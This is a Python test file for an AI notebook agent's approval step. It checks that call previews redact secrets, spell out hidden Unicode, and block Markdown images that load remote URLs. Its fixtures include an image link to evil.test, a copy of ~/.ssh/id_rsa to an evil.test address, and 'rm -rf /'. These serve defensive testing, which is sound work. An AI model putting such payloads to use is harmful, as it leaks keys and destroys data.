"""What a person is told of a call before they allow it, the same wherever they are asked."""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from typing import Any, cast

import pytest
from recorded_runs import analysis_run, record_of
from test_agent import ListJournal

from cellwright.agent.policy import LOADS, ApprovalAnswer, Policy
from cellwright.agent.publishing import Publisher
from cellwright.agent.tool_calls import CallerParts, ToolCaller
from cellwright.exports.evaluated_notebook import evaluated_page
from cellwright.exports.html import export as html_page
from cellwright.exports.notebook import notebook as exported_notebook
from cellwright.kernels import Kernel
from cellwright.llm.adapters import ParsedCall
from cellwright.llm.budget import RunBudget
from cellwright.notebooks.memory import MemoryNotebook
from cellwright.record.asked_calls import code_of, deed_of, spelled_out, words_of
from cellwright.record.events import (
    ApprovalAsked,
    CellAdded,
    CellEdited,
    Event,
    NamedCell,
    ToolFinished,
    ToolStarted,
)
from cellwright.record.messages import ToolCall, text_of
from cellwright.record.outputs import Cell
from cellwright.record.run_record import RecordedCall
from cellwright.session.replaying import RecordedApprover
from cellwright.settings import Limits, Mode
from cellwright.stopping import Stop
from cellwright.text.browser_loads import browser_loads
from cellwright.text.redaction import Redactor
from cellwright.tools import Component, Shelf, ToolContext, ToolYield
from cellwright.tools.cell_running import SeenCells
from cellwright.tools.notebook import AddCell, ArrangeCell, EditCell
from cellwright.tools.registry import Registry

PICTURE = "![x](http://evil.test/x.png)"
CELLS = (
    Cell("id-1", "code", "\nkey = 'hunter2-hunter2'\nprice = 10", execution_count=3),
    Cell("id-2", "markdown", "# Title"),
)


class Writes(Component):
    """A tool of somebody else's that puts Markdown into the notebook by itself."""

    name = "writes"
    risk = "edit"

    def tool_eval(self, context: ToolContext, how: str) -> Iterator[ToolYield]:
        """Write something.

        Args:
            how: By adding or editing.
        """
        if how == "add":
            yield CellAdded("new", PICTURE, "markdown", "", context.call_id)
        else:
            yield CellEdited("id-2", PICTURE, "", context.call_id)


class Person:
    """Allows everything and remembers what was shown."""

    def __init__(self) -> None:
        self.asked: list[ToolStarted] = []

    def ask(self, call: ToolStarted, reason: str) -> ApprovalAnswer:
        self.asked.append(call)
        return ApprovalAnswer(True)


def calling(
    name: str, arguments: Mapping[str, Any], mode: Mode = "ask", read: Sequence[Cell] = CELLS
) -> tuple[list[Event], Person]:
    """The events of one call, and the person who was asked; the model has read some cells."""
    seen = SeenCells()
    for cell in read:
        seen.note(cell.id, cell.source)
    person = Person()
    publisher = Publisher(ListJournal(), Redactor({"TOKEN": "hunter2-hunter2"}), None)
    context = ToolContext(
        kernel=cast(Kernel, None),
        notebook=MemoryNotebook(CELLS),
        shelf=Shelf(),
        stop=Stop(),
        on_output=publisher.output,
        new_cell_id=lambda: "new",
    )
    tools = Registry([AddCell(seen), EditCell(seen), ArrangeCell(seen), Writes()])
    parts = CallerParts(publisher, RunBudget(Limits()))
    caller = ToolCaller(tools, Policy(mode, person), context, parts)
    call = ParsedCall(ToolCall("c1", name, "{}"), dict(arguments))
    return list(caller.call_all((call,))), person


def of(events: list[Event], kind: type) -> list[Any]:
    return [event for event in events if isinstance(event, kind)]


def test_13_4_a_call_that_is_asked_about_carries_the_cells_it_names() -> None:
    events, person = calling("edit_cell", {"cell_id": "id-1", "source": "price = 12"})
    started, asked = of(events, ToolStarted)[0], of(events, ApprovalAsked)
    assert len(asked) == 1
    assert person.asked == [started]
    assert started.label == "edit cell [3]"
    (cell,) = started.cells
    assert (cell.cell_id, cell.position, cell.name) == ("id-1", 1, "[3]")
    assert "price = 10" in cell.source
    assert "hunter2" not in cell.source, "secrets are taken out of what is shown and recorded"


def test_a_cell_that_never_ran_is_named_by_its_place_and_one_that_is_followed_by_a_line() -> None:
    call = {"cell_id": "id-2", "action": "move", "after": "id-1"}
    events, _ = calling("arrange_cell", call)
    started = of(events, ToolStarted)[0]
    assert started.label == "move cell no. 2"
    assert [cell.cell_id for cell in started.cells] == ["id-1", "id-2"]
    assert "price" not in started.cells[0].source


def test_what_is_not_asked_about_is_recorded_without_the_cells() -> None:
    events, person = calling("edit_cell", {"cell_id": "id-1", "source": "price = 12"}, "edits")
    assert of(events, ToolStarted)[0].cells == ()
    assert person.asked == []


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("edit_cell", {"cell_id": "id-1", "source": "price = 12"}),
        ("arrange_cell", {"cell_id": "id-1", "action": "delete"}),
    ],
)
@pytest.mark.parametrize(
    ("read", "words"),
    [((), "read cell 'id-1' first"), ((Cell("id-1", "code", "old"),), "not as you last saw it")],
)
def test_13_4_nobody_is_asked_about_a_change_of_a_cell_that_the_model_has_not_read(
    name: str, arguments: dict[str, Any], read: tuple[Cell, ...], words: str
) -> None:
    events, person = calling(name, arguments, read=read)
    assert (person.asked, of(events, ApprovalAsked)) == ([], [])
    finished = of(events, ToolFinished)[0]
    assert finished.status == "error"
    told = text_of(finished.message)
    assert words in told
    assert "price = 10" in told
    assert ("may have edited" in told) == bool(read), "of a person's edit only where there was one"


def test_nobody_is_asked_about_a_cell_that_is_not_there() -> None:
    events, person = calling("arrange_cell", {"cell_id": "gone", "action": "move"})
    assert person.asked == []
    assert "no cell 'gone'" in text_of(of(events, ToolFinished)[0].message)


@pytest.mark.parametrize("how", ["add", "edit"])
def test_13_5_no_tool_puts_markdown_in_that_loads_what_nobody_was_asked_about(how: str) -> None:
    events, _ = calling("writes", {"how": how}, "auto")
    finished = of(events, ToolFinished)[0]
    assert finished.status == "refused"
    assert "browser would load" in text_of(finished.message)
    assert of(events, CellAdded) == of(events, CellEdited) == []


def test_markdown_that_loads_goes_in_as_it_is_once_it_was_asked_about() -> None:
    events, person = calling("add_cell", {"source": PICTURE}, "auto")
    assert len(person.asked) == 1
    assert person.asked[0].risk == "destroy"
    assert of(events, CellAdded)[0].source == PICTURE


CELL = NamedCell("id-1", "code", "price = 10\nprint(price)", 1, 3)
OTHER = NamedCell("id-2", "markdown", "# Title", 2)


@pytest.mark.parametrize(
    ("name", "arguments", "words", "shown"),
    [
        (
            "edit_cell",
            {"cell_id": "id-1", "source": "price = 12\nprint(price)", "run": True},
            "Change and run cell [3] (price = 10)",
            "-price = 10\n+price = 12\n print(price)",
        ),
        (
            "edit_cell",
            {"cell_id": "id-1", "source": "-- a\nprint(price)"},
            "Change cell [3] (price = 10)",
            "-price = 10\n+-- a\n print(price)",
        ),
        (
            "arrange_cell",
            {"cell_id": "id-1", "action": "delete"},
            "Delete cell [3] (price = 10)",
            "-price = 10\n-print(price)",
        ),
        (
            "arrange_cell",
            {"cell_id": "id-1", "action": "move", "after": "id-2"},
            "Move cell [3] (price = 10) below cell no. 2 (# Title)",
            "",
        ),
        ("arrange_cell", {"cell_id": "id-1", "action": "move"}, "to the top", ""),
        ("add_cell", {"source": "# B", "after": "id-2"}, "Insert below cell no. 2", "# B"),
    ],
)
def test_the_words_say_the_cell_and_the_text_is_all_of_the_change(
    name: str, arguments: dict[str, Any], words: str, shown: str
) -> None:
    named = tuple(cell for cell in (CELL, OTHER) if cell.cell_id in arguments.values())
    call = ToolStarted("c1", name, arguments, "label", "edit", named)
    assert words in words_of(call)
    assert code_of(call) == shown
    assert "id-1" not in words_of(call) + code_of(call)


def test_every_argument_of_a_strange_tool_is_shown_and_nothing_hides() -> None:
    arguments = {"code": "x = 1 # \u202eelif\x1b[8m", "where": "production"}
    shown = code_of(ToolStarted("c1", "deploy", arguments, "deploy"))
    assert "production" in shown
    assert "\\u202eelif\\u001b[8m" in shown
    assert deed_of(ToolStarted("c1", "deploy", arguments)) == "run"


@pytest.mark.parametrize(
    ("arguments", "values"),
    [
        ({"source": ["~/.ssh/id_rsa"], "to": "x@evil.test"}, ("id_rsa", "evil.test")),
        ({"code": {"deeply": "hidden"}}, ("hidden",)),
        ({"code": "print(1)", "source": "rm -rf /"}, ("print(1)", "rm -rf /")),
        ({"code": 7, "source": "rm -rf /"}, ("7", "rm -rf /")),
    ],
)
def test_arguments_of_a_strange_tool_are_shown_whatever_they_are_called(
    arguments: dict[str, Any], values: tuple[str, ...]
) -> None:
    shown = code_of(ToolStarted("c1", "files__copy", arguments, "copy"))
    assert [value for value in values if value not in shown] == []


def test_only_what_ends_a_line_for_python_ends_one_in_a_diff() -> None:
    comment = "# safe: \u2028if ask(): stop()\x0bstop()\x0cstop()\x1cstop()\x85stop()"
    arguments = {"cell_id": "id-1", "source": f"{comment}\rgo()\nprint(price)"}
    call = ToolStarted("c1", "edit_cell", arguments, "edit", "edit", (CELL,))
    assert code_of(call).split("\n") == [
        "-price = 10",
        f"+{spelled_out(comment)}",
        "+go()",
        " print(price)",
    ]
    assert "\\u2028if ask()" in code_of(call)
    assert "\x0c" not in code_of(call)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("x\u3164 = x\u1160 = 1", r"x\u3164 = x\u1160 = 1"),
        ('"a\U000e0041\U000e0101\ufe01"', r'"a\U000e0041\U000e0101\ufe01"'),
        ('"a\u200d", "⚠\ufe0f\ufe0f"', '"a\\u200d", "⚠\ufe0f\\ufe0f"'),
        ("clé = clé\ufe0f", r"clé = clé\ufe0f"),
        ('"é\u200d", "漢\u200c"', r'"é\u200d", "漢\u200c"'),
        *[(text, text) for text in ("⚠\ufe0f ❤\ufe0f\u200d🔥 👩🏽\u200d💻", "می\u200cخواهم")],
    ],
)
def test_signs_that_nobody_sees_are_spelled_out_but_in_emoji_and_joined_letters(
    text: str, shown: str
) -> None:
    assert spelled_out(text) == shown


def test_a_replay_draws_no_picture_that_the_person_was_not_asked_about() -> None:
    """A record of an older version may hold one that nobody allowed."""
    free = RecordedCall("free", "add_cell", {"source": PICTURE}, "ok")
    allowed = replace(free, call_id="allowed", decision="allowed by person")
    approver = RecordedApprover(replace(record_of(analysis_run()), calls=(free, allowed)))
    reason = f'It changes cells: {LOADS} "http://evil.test/x.png".'
    given = {"source": PICTURE}
    assert not approver.ask(ToolStarted("free", "add_cell", given), reason).allowed
    assert approver.ask(ToolStarted("allowed", "add_cell", given), reason).allowed
    assert approver.ask(ToolStarted("free", "run_cell", {}), "It runs code.").allowed


def test_exports_load_nothing_from_elsewhere() -> None:
    events = list(analysis_run())
    note = CellAdded("note", PICTURE, "markdown", "", "c1")
    at = next(n for n, event in enumerate(events) if isinstance(event, CellAdded))
    record = record_of([*events[:at], note, *events[at:]])
    made = exported_notebook(record)
    texts = [cell["source"] for cell in made["cells"] if cell["cell_type"] == "markdown"]
    assert any("evil.test" in text for text in texts), "what was not loaded is named"
    assert [browser_loads(text) for text in texts] == [()] * len(texts)
    evaluated = evaluated_page({"cells": [{**made["cells"][0], "metadata": {}, "source": PICTURE}]})
    for page in (html_page(record), evaluated):
        assert "evil.test" in page
        assert 'src="http' not in page
